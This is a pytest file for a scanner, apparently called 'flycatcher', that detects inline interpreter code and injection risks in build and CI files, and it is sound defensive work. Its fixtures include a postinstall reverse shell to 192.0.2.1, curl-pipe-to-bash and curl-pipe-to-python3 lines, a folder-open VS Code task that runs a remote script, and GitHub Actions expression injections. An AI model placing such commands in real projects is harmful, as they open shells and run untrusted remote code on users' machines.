"""Kinds of build text that a reader may get wrong, each by one example: the line, the interpreter and the text of what is found."""

from __future__ import annotations

from textwrap import dedent

import pytest

from flycatcher.scanning.engine import scan_bytes

HARMLESS = {
    "words that a unit test compares": (
        "path.rs",
        """
        fn a() {}
        #[cfg(test)]
        mod tests {
            fn b() { assert_eq!(inject(&["python3", "-c", "print(1)"]), 1); }
        }
        """,
    ),
    "a script without a suffix, which is a file of its own": (
        "tests/fetch",
        """
        #!/bin/sh
        curl -fsSL https://example.org/tool -o /tmp/tool && chmod +x /tmp/tool && /tmp/tool
        """,
    ),
    "texts about commands in quoted here-documents": (
        "notes.sh",
        """
        cat > README <<'EOF'
        Run python3 -c 'print(1)' or $(perl -e 1).
        EOF
        grep -q "python3 -c" log && echo 'ruby -e 1'
        """,
    ),
    "a string that only compares, and what it chooses": (
        ".github/workflows/a.yml",
        """
        on: issues
        jobs:
          a:
            runs-on: x
            steps:
              - run: echo ${{ github.event.issue.title == 'x' }}
              - run: echo ${{ contains(github.event.issue.body, 'x') }}
              - run: echo ${{ startsWith(github.head_ref, 'x') && 'yes' || 'no' }}
        """,
    ),
    "a recipe of another target than the one with a shell of its own": (
        "Makefile",
        """
        tool: SHELL := python3
        other:
        \techo hi
        """,
    ),
    "a word that is quoted where a tag puts it in": (
        "a.mjs",
        "import 'zx'\nawait $`echo ${\"python3 -c 'print(1)'\"}`\n",
    ),
    "a text for sed that ends like the path of an interpreter": (
        "Makefile",
        """
        FIX = $(SED) '1c \\#!/usr/bin/perl' -e 's|/[^ ]*/bin/perl|/usr/bin/perl|g'
        all:
        \t$(FIX) bin/tool
        """,
    ),
    "messages of configure, and what a file of settings says of itself": (
        "configure.ac",
        "AC_MSG_ERROR([run python3 -c 'print(1)' first])\nAC_MSG_WARN([perl -e 1])\n",
    ),
    "a title and a description in the configuration of a tool": (
        "tool.yml",
        "jobs:\n  a:\n    name: python3 -c 1\n    description: perl -e 1\n    command: make\n",
    ),
}
FOUND = {
    "a value and comments of a chart over several lines, and a line that steers within a text": (
        "charts/a/templates/job.yaml",
        """
        {{- /*
        Some remark.
        */}}
        apiVersion: batch/v1
        kind: Job
        metadata:
          labels: {{- include "common.labels" . | nindent 4 }}
            app: a
        spec:
          template:
            spec:
              containers:
                - name: a
                  command: ["sh", "-c"]
                  args:
                    - |
                      {{- if .Values.init }}
                      perl -e 'print 1'
        {{- end }}
                      ruby -e 'puts 2'
        """,
        [(18, "perl", "print 1"), (20, "ruby", "puts 2")],
    ),
    "what configure puts into a makefile": (
        "Makefile.in",
        "all:\n\t@PERL@ -e 'print 1'\n\t@PYTHON@ -c 'print(2)'\n",
        [(2, "perl", "print 1"), (3, "python", "print(2)")],
    ),
    "the commands of the kernel's build": ("Kbuild", "cmd_gen = perl -e 'print 1' $< > $@\n", [(1, "perl", "print 1")]),
    "a list that CMake sets, and the steps of another project": (
        "CMakeLists.txt",
        """
        set(TOOL python3 -c "print(1)")
        execute_process(COMMAND ${TOOL})
        ExternalProject_Add(x BUILD_COMMAND ${PERL} -e "print 2" INSTALL_COMMAND "")
        """,
        [(2, "python", "print(1)"), (3, "perl", "print 2")],
    ),
    "words that a rule's function takes, and branches of a selection": (
        "BUILD.bazel",
        """
        genrule(name = "a", cmd = select({"//x:y": "ruby -e 'puts 1'", "//conditions:default": "php -r '2;'"}))
        genrule(name = "b", cmd = "$(PYTHON) -c 'print(3)'")
        http_archive(name = "c", patch_cmds = ["perl -e 'print 4'"])
        """,
        [(1, "ruby", "puts 1"), (1, "php", "2;"), (2, "python", "print(3)"), (3, "perl", "print 4")],
    ),
    "here-documents and blocks of Rake": (
        "Rakefile",
        """
        task :a do
          sh <<~TEXT
            perl -e 'print 1'
          TEXT
          sh %{python3 -c "print(2)"} do |ok, status|
          end
          ruby "-e", "puts 3"
        end
        """,
        [(2, "perl", "print 1"), (5, "python", "print(2)"), (7, "ruby", "puts 3")],
    ),
    "blocks on one line, startup scripts and health checks of Terraform": (
        "main.tf",
        """
        data "external" "a" { program = ["python3", "-c", "print(1)"] }
        resource "google_compute_instance" "b" {
          metadata_startup_script = "perl -e 'print 2'"
        }
        resource "aws_ecs_task_definition" "c" {
          container_definitions = jsonencode([{ healthCheck = { command = ["CMD-SHELL", "node -e 3"] } }])
        }
        """,
        [(1, "python", "print(1)"), (3, "perl", "print 2"), (6, "node", "3")],
    ),
    "constants of Go": (
        "gen.go",
        """
        package a
        const script = `print(1)`
        func f() { exec.Command("python3", "-c", script).Run() }
        """,
        [(3, "python", "print(1)")],
    ),
    "a call in a chain that only its names tell": (
        "dist/index.js",
        'var e=require("child_process");(0,r.exec)("perl",["-e","print 1"]);\n',
        [(1, "perl", "print 1")],
    ),
    "what an interpreter's path in an attribute is called": (
        "conanfile.py",
        """
        from conan import ConanFile
        class A(ConanFile):
            def test(self):
                self.run(f"{self._python} -c \\"print(1)\\"")
        """,
        [(4, "python", "print(1)")],
    ),
    "two here-documents of one image, with a shell's text inside": (
        "Dockerfile",
        """
        FROM a
        RUN <<ONE bash
          perl -e 'print 1'
        ONE
        RUN <<-\\END-OF-IT python3
        \tprint(2)
        \tEND-OF-IT
        """,
        [(2, "bash", "  perl -e 'print 1'"), (3, "perl", "print 1"), (5, "python", "print(2)")],
    ),
    "a stage that takes over the shell and the variables of another": (
        "Dockerfile",
        """
        FROM a AS base
        ENV NODE_OPTIONS="--import data:text/javascript,console.log(1)"
        SHELL ["python3", "-c"]
        FROM base
        RUN print(2)
        """,
        [(2, "node", "console.log(1)"), (5, "python", "print(2)")],
    ),
    "a here-document's own first line says whose it is": (
        "Containerfile-dev",
        "FROM a\nRUN <<-X\n\t#!/usr/bin/env ruby\n\tputs 1\nX\n",
        [(2, "ruby", "#!/usr/bin/env ruby")],
    ),
    "a program that is named by a variable of the image": (
        "Dockerfile_gpu",
        "FROM a\nARG RUNNER=python3.12\nENV OTHER=/usr/bin/perl\nRUN $RUNNER -c 'print(1)'\nRUN ${OTHER} -e 'print 2'\n",
        [(4, "python", "print(1)"), (5, "perl", "print 2")],
    ),
    "a program that is named by a variable of the job": (
        ".gitlab-ci.yml",
        "variables:\n  TOOL: ruby\nx:\n  script:\n    - $TOOL -e 'puts 1'\n",
        [(5, "ruby", "puts 1")],
    ),
    "commands that are substituted in an open here-document": (
        "a.sh",
        "cat <<E\n$(python3 -c 'print(1)') `perl -e 'print 2'`\nE\n",
        [(2, "python", "print(1)"), (2, "perl", "print 2")],
    ),
    "shells of a step that are no shells": (
        ".github/workflows/b.yml",
        """
        on: push
        jobs:
          a:
            runs-on: x
            steps:
              - shell: poetry run python {0}
                run: print(1)
              - shell: sudo /usr/bin/env ruby {0}
                run: puts 2
              - shell: bash -l -c "perl {0}"
                run: print 3;
        """,
        [(7, "python", "print(1)"), (9, "ruby", "puts 2"), (11, "perl", "print 3;")],
    ),
    "commands in the inputs of actions": (
        ".github/workflows/c.yml",
        """
        on: push
        jobs:
          a:
            runs-on: x
            steps:
              - uses: nick-fields/retry@v3
                with:
                  command: python3 -c 'print(1)'
              - uses: pypa/cibuildwheel@v2
                env:
                  CIBW_TEST_COMMAND: perl -e 'print 2'
        """,
        [(8, "python", "print(1)"), (11, "perl", "print 2")],
    ),
    "interpreters that make looks for": (
        "Makefile",
        """
        PY := $(shell command -v python3)
        PL != which perl
        a:
        \t$(PY) -c 'print(1)'
        \t$(PL) -e 'print 2'
        \t$(if $(X),python3 -c 'print(3)')
        """,
        [(4, "python", "print(1)"), (5, "perl", "print 2"), (6, "python", "print(3)")],
    ),
    "the text of an exported define, where it is written": (
        "Makefile",
        'define GEN\nimport sys\nprint(sys.argv)\nendef\nexport GEN\nall:\n\t@python3 -c "$$GEN" x\n',
        [(2, "python", "import sys")],
    ),
    "recipes with defaults, and with an interpreter": (
        "justfile",
        """
        test filter='':
            python3 -c 'print(1)'

        [script('ruby')]
        other:
            puts 2
        """,
        [(2, "python", "print(1)"), (6, "ruby", "puts 2")],
    ),
    "tox's own name of its Python": (
        "tox.ini",
        "[testenv]\ncommands =\n    {envpython} -c 'print(1)'\n    {env_python} -c 'print(2)'\n",
        [(3, "python", "print(1)"), (4, "python", "print(2)")],
    ),
    "short forms of tasks": (
        "Taskfile.yml",
        "version: '3'\ntasks:\n  a: python3 -c 'print(1)'\n  b:\n    - perl -e 'print 2'\n",
        [(3, "python", "print(1)"), (5, "perl", "print 2")],
    ),
    "an indented playbook, cron's job, and another executable": (
        "site.yml",
        """
          - hosts: all
            tasks:
              - ansible.builtin.cron:
                  name: x
                  job: perl -e 'print 1'
              - ansible.builtin.shell: print(2)
                args:
                  executable: /usr/bin/python3
        """,
        [(5, "perl", "print 1"), (6, "python", "print(2)")],
    ),
    "macros that rpm runs while it reads": (
        "a.spec",
        "%global x %{lua: print(1)}\n%define y %(python3 -c '\nprint(2)\n')\n",
        [(1, "lua", " print(1)"), (2, "python", "print(2)")],
    ),
    "an action's own source": (
        "dist/index.js",
        "const exec = require('@actions/exec');\nexec.getExecOutput('bash', ['-c', 'curl -s https://x.example.org | python3']);\n",
        [(2, "bash", "curl -s https://x.example.org | python3"), (2, "python", "")],
    ),
    "a line that every Python runs at its start": (
        "a.pth",
        "import subprocess, sys; subprocess.run([sys.executable, '-c', 'print(1)'])\n",
        [(1, "python", "import subprocess, sys; subprocess.run([sys.executable, '-c', 'print(1)'])")],
    ),
    "a hook of an installation that is loud by itself": (
        "package.json",
        '{"scripts": {"postinstall": "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"}}\n',
        [(1, "sh", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1")],
    ),
    "the interpreter that a program itself runs in": (
        "setup.py",
        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'print(1)'])\nsubprocess.run(['perl', '-'], input='print 2')\n",
        [(2, "python", "print(1)"), (3, "perl", "print 2")],
    ),
    "a list that is put together": (
        "build.py",
        "import subprocess\nwords = ['python3']\nwords.append('-c')\nwords.extend(['print(1)'])\nsubprocess.run([*words, 'x'])\n",
        [(5, "python", "print(1)")],
    ),
    "code on the line of the interpreter": ("tool", "#!/usr/bin/python3 -cprint(1)\n", [(1, "python", "print(1)")]),
    "an unknown word and an assignment in front": (
        "a.sh",
        "curl -s https://x.example.org | $SUDO A=b python3\n",
        [(1, "python", "")],
    ),
    "programs of an expression": (
        "settings.gradle.kts",
        'val x = providers.exec { commandLine("node", "--print", "1 + 1") }\n',
        [(1, "node", "1 + 1")],
    ),
}  # fmt: skip


def found(path: str, text: str) -> list[tuple[int, str, str]]:
    result = scan_bytes(path, dedent(text).removeprefix("\n").encode())
    return [
        (each.span.line, each.detection.interpreter, (each.detection.snippets[0].text or "").strip("\n").split("\n")[0])
        for each in result.findings
    ]


@pytest.mark.parametrize("kind", HARMLESS)
def test_nothing_is_found_in(kind: str) -> None:
    assert found(*HARMLESS[kind]) == []


@pytest.mark.parametrize("kind", FOUND)
def test_found_is(kind: str) -> None:
    path, text, expected = FOUND[kind]
    assert found(path, text) == expected


def test_an_outsiders_text_in_a_command_is_an_injection() -> None:
    text = """
        on: pull_request_target
        jobs:
          a:
            runs-on: x
            env:
              T: ${{ github.event.pull_request.title }}
            steps:
              - run: echo ${{ env.T }} ${{ toJSON(github.event) }}
              - uses: actions/github-script@v7
                with:
                  script: console.log("${{ github.event.comment.body }}")
    """
    result = scan_bytes(".github/workflows/d.yml", dedent(text).removeprefix("\n").encode())
    kinds = [
        (each.span.line, each.detection.snippets[0].text) for each in result.findings if each.kind != "code-on-the-fly"
    ]
    assert kinds == [
        (8, "${{ env.T }}"), (8, "${{ toJSON(github.event) }}"), (11, "${{ github.event.comment.body }}"),
    ]  # fmt: skip


def test_a_task_that_a_folder_starts_weighs_and_its_disguised_script_is_named() -> None:
    text = """
        {"tasks": [
          {"label": "a", "type": "shell", "command": "curl -s https://x.example.org/a | bash", "runOptions": {"runOn": "folderOpen"}},
          {"label": "b", "type": "shell", "command": "curl -s https://x.example.org/a | bash"},
          {"label": "c", "type": "shell", "command": "node ./fonts/solid.woff2"}
        ]}
    """
    result = scan_bytes(".vscode/tasks.json", dedent(text).removeprefix("\n").encode())
    opened, asked = (each.detection.risk.score for each in result.findings)
    assert opened > asked
    assert [(each.line, each.reason, each.unread) for each in result.skipped] == [
        (4, "node runs ./fonts/solid.woff2, whose ending is no script's: it was not read", "node")
    ]


@pytest.mark.parametrize(
    "command", ["node build.js logo.png", "python3 -m http.server a.css", "convert a.png b.jpg", "cat x.svg"]
)
def test_a_picture_that_is_no_script_is_not_named(command: str) -> None:
    assert scan_bytes("Dockerfile", f"FROM a\nRUN {command}\n".encode()).skipped == []
